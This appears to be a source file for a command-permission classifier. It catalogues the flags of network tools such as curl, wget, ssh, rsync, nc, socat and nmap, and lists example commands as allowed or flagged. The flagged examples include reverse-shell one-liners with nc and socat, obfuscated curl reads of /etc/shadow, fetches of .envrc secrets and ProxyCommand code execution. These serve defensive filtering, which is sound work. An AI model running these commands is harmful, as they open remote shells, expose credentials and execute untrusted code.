//! Transfers, remote shells, and questions to the network.

family! {
"
= curl
~ connects plain
- anyauth append a alt-svc:!write+writes aws-sigv4: basic cacert:!read capath:!read E|cert:!@certificate cert-status cert-type: ciphers: compressed
- compressed-ssh connect-timeout: connect-to: C|continue-at: b|cookie:!read c|cookie-jar:!write+writes create-dirs create-file-mode: crlf crlfile:!read curves:
- d|data:!@upload data-ascii:!@upload data-binary:!@upload data-raw: data-urlencode:!@upload delegation: digest q|disable disable-eprt disable-epsv
- disallow-username-in-url dns-interface: dns-ipv4-addr: dns-ipv6-addr: dns-servers: doh-cert-status doh-insecure doh-url:!text D|dump-header:!write+writes
- etag-compare:!read etag-save:!write+writes expect100-timeout: f|fail fail-early fail-with-body false-start F|form:!@form form-escape form-string:
- ftp-account: ftp-method: ftp-pasv P|ftp-port: ftp-pret ftp-skip-pasv-ip ftp-ssl-ccc ftp-ssl-ccc-mode: ftp-ssl-control G|get g|globoff
- happy-eyeballs-timeout-ms: haproxy-protocol I|head H|header:!@upload h|help::!help hostpubmd5: hostpubsha256: hsts:!write+writes http0.9 0|http1.0 http1.1 http2
- http2-prior-knowledge http3 http3-only ignore-content-length i|include|show-headers k|insecure interface: 4|ipv4 6|ipv6 json:!@upload j|junk-session-cookies
- keepalive-time: key:!@certificate key-type: limit-rate: l|list-only local-port: L|location location-trusted login-options: mail-auth: mail-from: mail-rcpt:
- M|manual!help max-filesize: max-redirs: m|max-time: negotiate n|netrc netrc-file:!read netrc-optional :|next no-alpn N|no-buffer buffer no-clobber clobber
- no-compressed no-keepalive no-npn no-progress-meter progress-meter no-sessionid noproxy: ntlm oauth2-bearer: o|output:!write+writes+@curl-output output-dir:!write+writes
- Z|parallel parallel-immediate parallel-max: pass: path-as-is pinnedpubkey: post301 post302 post303 preproxy: #|progress-bar proto: proto-default:!{http,https,ftp,ftps,sftp}
- proto-redir: x|proxy: proxy-anyauth proxy-basic proxy-cacert:!read proxy-digest proxy-header:!@upload proxy-insecure proxy-negotiate proxy-ntlm
- proxy-http2 proxy-user: U: proxy1.0: p|proxytunnel r|range: rate: raw e|referer:!text O|remote-name!writes+in-place remote-name-all!writes+in-place R|remote-time remove-on-error
- X|request: request-target: resolve: retry: retry-all-errors retry-connrefused retry-delay: retry-max-time: sasl-authzid: sasl-ir service-name:
- S|show-error s|silent no-silent no-show-error no-location no-fail socks4: socks4a: socks5: socks5-basic socks5-gssapi socks5-hostname: Y|speed-limit: y|speed-time:
- ssl ssl-no-revoke ssl-reqd 2|sslv2 3|sslv3 stderr:!write+writes styled-output no-styled-output suppress-connect-headers tcp-fastopen tcp-nodelay
- z|time-cond: tls-max: tls13-ciphers: 1|tlsv1 tlsv1.0 tlsv1.1 tlsv1.2 tlsv1.3 tr-encoding trace:!write+writes trace-ascii:!write+writes trace-time trace-ids
- T|upload-file:!@sent url:!connect+@curl-url url-query:!@upload B|use-ascii u|user: A|user-agent:!text v|verbose V|version!help w|write-out:!@write-out xattr
. connect+@curl-url*

= wget
~ connects writes plain
- ask-password convert-file-only preserve-permissions retr-symlinks xattr ftps-implicit ftps-resume-ssl ftps-clear-data-connection ftps-fallback-to-ftp
- V|version!help h|help!help d|debug q|quiet v|verbose no-verbose report-speed: o|output-file:!write a|append-output:!write i|input-file:!read+ask F|force-html
- B|base: rejected-log:!write no-config t|tries: retry-connrefused retry-on-http-error: O|output-document:!target no-clobber no-netrc c|continue start-pos: progress:
- show-progress N|timestamping no-if-modified-since no-use-server-timestamps S|server-response spider T|timeout: dns-timeout: connect-timeout: read-timeout:
- w|wait: waitretry: random-wait no-proxy Q|quota: bind-address: limit-rate: no-dns-cache restrict-file-names: ignore-case 4|inet4-only 6|inet6-only
- prefer-family: user: password: no-iri local-encoding: remote-encoding: unlink no-directories x|force-directories!unpack no-host-directories!unpack protocol-directories
- P|directory-prefix:!write cut-dirs:!unpack http-user: http-password: no-cache default-page: E|adjust-extension ignore-length header:!text compression: max-redirect:
- referer:!text save-headers U|user-agent:!text no-http-keep-alive no-cookies load-cookies:!read save-cookies:!write keep-session-cookies post-data:!text post-file:!read
- method: body-data:!text body-file:!read content-on-error auth-no-challenge secure-protocol: https-only no-check-certificate certificate:!read certificate-type:
- private-key:!read private-key-type: ca-certificate:!read ca-directory:!read crl-file:!read pinnedpubkey: ciphers: no-hsts hsts-file:!write ftp-user:
- ftp-password: no-remove-listing no-glob no-passive-ftp r|recursive!unpack l|level: delete-after k|convert-links K|backup-converted backups:: m|mirror!unpack
- p|page-requisites!unpack strict-comments A|accept: R|reject: accept-regex:!text reject-regex:!text regex-type:!text D|domains: exclude-domains:!text follow-ftp follow-tags:
- ignore-tags:!text H|span-hosts L|relative I|include-directories:!text X|exclude-directories:!text no-parent n:!{v,c,d,p,r,vc,cv}
- e|execute:!config config:!config use-askpass:!run
. connect+@kept-url*

= http https xh
~ connects writes plain
- j|json f|form p|print: h|headers b|body v|verbose a|auth: A|auth-type: F|follow max-redirects: timeout: check-status verify: ssl: pretty: s|style: S|stream
- o|output:!write d|download c|continue ignore-stdin I q|quiet help!help version!help raw:!text proxy: offline
. @http-item*

= ssh slogin
~ keys connects leading commands
- 4 6 A a C f!ask G g K k M!ask N n q s!ask T t v V!help X!ask x Y!ask y
- B: b: c: E:!write D:!ask e: F:!config I:!load i:!read J:!ask L:!ask l: m: O:!ask o:!@ssh-option P: p: Q: R:!ask S:!config W:!ask w:!ask
. @remote run*

= scp
~ keys writes copies
- 3 4 6 A B C O p q R r!recursive+follows T v c: F:!config i:!read J:!ask l: o:!@ssh-option P: S:!run D:!run X:
. @remote-read* @remote-write

= sftp
~ connects commands ask

= ssh-keyscan
~ connects
- 4 6 c D H v q f:!read O: p: T: t:
. text*

= ssh-keygen
~ keys
- l v B e y E: f:!read F: H!ask
. text

= ssh-add
- l L q v

= rsync
~ writes copies
- compress-threads: inc-recursive!recursive no-inc-recursive i-r!recursive no-i-r ignore-missing-args munge-links protocol: old-args no-W old-d!recursive
- a|archive!recursive v|verbose q|quiet r|recursive!recursive n|dry-run z|compress P progress stats h|human-readable c|checksum R|relative no-R|no-relative no-implied-dirs b|backup
- backup-dir:!write+ask suffix:!@suffix u|update inplace append append-verify d|dirs!recursive old-dirs!recursive mkpath l|links L|copy-links!follows copy-unsafe-links!follows safe-links k|copy-dirlinks
- K|keep-dirlinks H|hard-links p|perms E|executability chmod: A|acls X|xattrs o|owner g|group t|times U|atimes N|crtimes O|omit-dir-times J|omit-link-times
- S|sparse preallocate W|whole-file no-whole-file cc|checksum-choice: x|one-file-system B|block-size: existing ignore-non-existing ignore-existing
- no-perms no-owner no-group no-times no-links no-compress no-recursive no-dirs
- max-delete: max-size: min-size: max-alloc: partial partial-dir:!write delay-updates m|prune-empty-dirs numeric-ids usermap: groupmap: chown: timeout:
- contimeout: I|ignore-times size-only modify-window|@: T|temp-dir:!write y|fuzzy compare-dest:!read copy-dest:!read link-dest:!read zc|compress-choice:
- zl|compress-level: skip-compress: C|cvs-exclude f|filter:!@copy-filter F exclude:!text include:!text exclude-from:!read include-from:!read files-from:!read+recursive 0|from0 s|secluded-args|protect-args
- trust-sender copy-as: address: port: blocking-io 8|8-bit-output i|itemize-changes out-format: log-file:!write log-file-format: password-file:!read
- list-only bwlimit: stop-after: stop-at: fsync outbuf: 4|ipv4 6|ipv6 info: debug: stderr: msgs2stderr no-motd open-noatime iconv: checksum-seed: preserve
- devices specials D copy-devices write-devices force ignore-errors
- delete!destroys del!destroys delete-before!destroys delete-during!destroys delete-delay!destroys delete-after!destroys delete-excluded!destroys
- delete-missing-args!destroys remove-source-files!destroys+in-place
- e|rsh:!sh rsync-path:!run daemon!ask config:!config write-batch:!ask only-write-batch:!ask read-batch:!ask M|remote-option:!ask early-input:!read
- help!help V|version!help
. @remote-read* @remote-write

= dig
~ words connects
- 4 6 b: c: f:!read k:!read m p: q: r t: u v!help x: y: h!help
. +>text @>connect text*

= nslookup
~ words connects
- type: query: debug port: timeout: retry: version!help
. text text

= host
~ connects
- a A C d l r s T v w V!help 4 6 c: m: N: p: R: t: U W:
. text text

= ping ping4 ping6
~ connects
- 4 6 a A B b c: C D d e: F: h!help i: I: l: L m: M: n N: O p: q Q: R r s: S: t: T: U v V!help w: W:
. text*

= traceroute tracepath mtr
~ connects
- 4 6 n r m: q: w: p: f: I T U d c: i: report b wide json csv
. text text

= whois
~ connects
- T: i: q: s: t: v: g: G no-recursion port:
- h:!connect host: p: I H a l L m M c x verbose r R b B K d help!help version!help
. text*

= nc ncat netcat
~ connects
- z v n u w: 4 6 h!help N C d q: W: t vv vz zv zvw:
. text text

= ss
- V|version!help n|numeric r|resolve a|all l|listening o|options e|extended m|memory p|processes T|threads i|info tipcinfo s|summary tos cgroup b|bpf E|events
- Z|context z|contexts N|net: 4|ipv4 6|ipv6 0|packet t|tcp M|mptcp S|sctp u|udp d|dccp w|raw x|unix tipc vsock xdp f: H|no-header O|oneline inet-sockopt
- A|query: socket: h|help!help family: F|filter:!read K|kill!destroys D|diag:!write
. text*

= netstat
- r|route i|interfaces g|groups s|statistics M|masquerade v|verbose W|wide n|numeric numeric-hosts numeric-ports numeric-users N|symbolic e|extend p|programs
- o|timers c|continuous l|listening a|all F|fib C|cache Z|context t|tcp u|udp w|raw x|unix 4|inet 6|inet6 h|help!help V|version!help

= ip
~ words whole abbreviated
- V|Version!help h|human s|stats|statistics d|details f|family: 4 6 o|oneline j|json p|pretty br|brief c|color:: t|timestamp r|resolve N|Numeric
> addr address a
  . {show,list,ls,sh,s} text*
> link l
  . {show,list,ls,sh,s} text*
> route r ro
  . {show,list,ls,sh,s,get} text*
> neigh neighbour neighbor n
  . {show,list,ls,sh,s} text*
> rule ru
  . {show,list,ls,sh,s}
> help
  . @name*

= ifconfig
- a s v
. text

= route
- n e ee v

= arp
- a n v e
. text

= telnet
~ connects commands
- 4 6 8 E a d l: x r
. @name text

= ftp lftp ncftp tnftp
~ connects commands
- 4 6 d g i n p v
. @name text

= sshpass mosh autossh sshfs
~ run
- h|help!help V|version!help

= socat
~ connects
- V!help h!help d D v x s t:!number T:!number u U 4 6 b:!number
. @socat @socat

= tcpdump
~ reads
- A b B:!number c:!number d D|list-interfaces e f H i|interface: I|monitor-mode j: J K l L n N O p q Q: r:!read S s:!number t u U v V:!read w:!write x X y: C:!number G:!number W:!number h|help!help version!help count immediate-mode number print nano micro snapshot-length:!number
- z:!run Z:!ask F:!config m:!load E:!ask
. text*

= tshark
~ reads
- r:!read Y: R: T:!{text,json,jsonraw,ek,pdml,psml,fields,tabs} e: E: n N: q c:!number V x t: u: i: f: w:!write D h|help!help v|version!help l O: P S:
- X:!load z:!ask F: d:!ask C:!config K:!ask o:!config G::!ask
. text*

= wireshark dumpcap
~ run
- h|help!help v|version!help

= nmap
~ connects words whole
- iL:!read sL sn sP sS sT sU sV sN sF sX sA sW sM sO sY sZ sC Pn P0 PS^ PA^ PU^ PE PP PM PR n R system-dns traceroute p: p^ exclude:!text exclude-ports:!text excludefile:!read F r top-ports:!number port-ratio:!number version-intensity:!number version-light version-all version-trace O osscan-limit osscan-guess T^!{0,1,2,3,4,5} min-rate:!number max-rate:!number max-retries:!number host-timeout: v vv vvv d dd reason open packet-trace iflist oN:!write oX:!write oG:!write oA:!write oS:!write append-output no-stylesheet A 4 6 V!help version!help h!help help!help
- script:!run script-args:!ask script-args-file:!config script-updatedb!ask datadir:!load servicedb:!config versiondb:!config resume:!config stylesheet:!ask interactive!run
. text*
" examples "
+ telnet h 80
+ socat - TCP:host:80
+ tcpdump -n -r f
+ nmap -p 80 host
+ nmap -sV host
? sshpass -p x ssh h
? mosh --ssh=x h
? lftp -c x
? lftp -e x h
? ftp -o x http://h
? socat EXEC:sh -
? socat tcp:h:1 exec:sh
? socat - create:f
? socat - TCP:h:1,fork
? tcpdump -z x
? tcpdump -lz x
? tcpdump -Uz x
? tshark -X lua_script:x
? nmap --script=x y
? nmap --interactive
? nmap --datadir d y
? nmap --scr x y
+ curl -fsSL https://example.org/x
+ curl -s -o /dev/null -w '%{http_code}' https://example.org
+ curl -X POST -H 'content-type: application/json' -d '{\"a\":1}' http://localhost:8080/x
+ curl -sSLO https://example.org/x.tgz
+ curl -I https://example.org
+ curl --retry 3 -d @body.json https://example.org
+ wget -q https://example.org/x
+ wget -qO- https://example.org/x
+ wget -nv -P out https://example.org/x
+ rsync -av --exclude .git a/ b/
+ rsync -avz a host:b
+ scp a host:b
+ dig +short example.org
+ dig @1.1.1.1 example.org MX
+ host example.org
+ ping -c 3 localhost
+ nc -zv localhost 80
+ ss -tlnp
+ ip addr show
+ ip -br a s
+ netstat -tlnp
+ ssh-keygen -lf k.pub
? curl -K conf https://example.org
? curl -sKconf https://example.org
? curl --conf x https://example.org
? curl file:///etc/shadow
? curl FiLe:///etc/shadow
? curl '{file}:///etc/shadow'
? curl 'fil[e-e]:///etc/shadow'
? curl --url file:///etc/shadow
? curl -o '#1' 'http://h/{.envrc}'
? curl -T '{/x,y}' http://h
? curl -F 'f=@\"/x\"' http://h
? curl -F 'f=@a,/x' http://h
? curl -F 'f=x;headers=@/x' http://h
? curl -sO http://h/.envrc
? curl -sO 'http://h/.envrc?a'
? curl -sO 'http://h/{.envrc}'
? curl -sO http://h/.envrc?a=1
? curl -E 'pkcs11:x?module-path=e.so' https://h
? rsync -f '. /x' a b
+ rsync -f '- *.o' --filter=':- .gitignore' a b
+ curl -LO https://h/x.tar.gz
+ curl -F 'f=@a;type=text/plain' -F b=c http://h
+ curl 'http://[::1]:80/{a,b}'
? wget http://h/.envrc
? wget http://h/%2eenvrc
? wget -i list
? wget -nH -r http://h/
+ wget -O x http://h/.envrc
+ wget https://h/x.tgz
? curl --engine ./e.so https://example.org
? curl --unix-socket /var/run/docker.sock http://x/
? curl -w '%output{../x}y' https://example.org
? curl -sw '%output{../x}y' https://example.org
? curl -OJ https://example.org/x
? curl --libcurl x https://example.org
? curl -Q 'DELE x' ftp://h
? wget -e use_askpass=./x https://example.org
? wget --use-askpass=./x https://example.org
? wget --exec=x https://example.org
? wget --config=x https://example.org
? wget -b https://example.org
? wget --content-disposition https://example.org
? ssh -oProxyCommand=./x h
? ssh h id
? ssh -F c h
? ssh -J j h
? ssh -R 1:h:2 h
? scp -S ./x a h:b
? scp -D ./x a h:b
? scp -J j a h:b
? rsync -e ./x --daemon a b
? rsync --rsync-path=./x a h:b
? rsync --config=c a b
? rsync -M--x a h:b
? nc -e /bin/sh h 1
? nc -l 80
? nc -c id h 1
? ip netns exec x id
? ip -b f
? ip link set eth0 down
? ip a add 1.1.1.1 dev lo
? ssh-keygen -D ./x.so
? ssh-keygen -t rsa
? sftp h
";
}
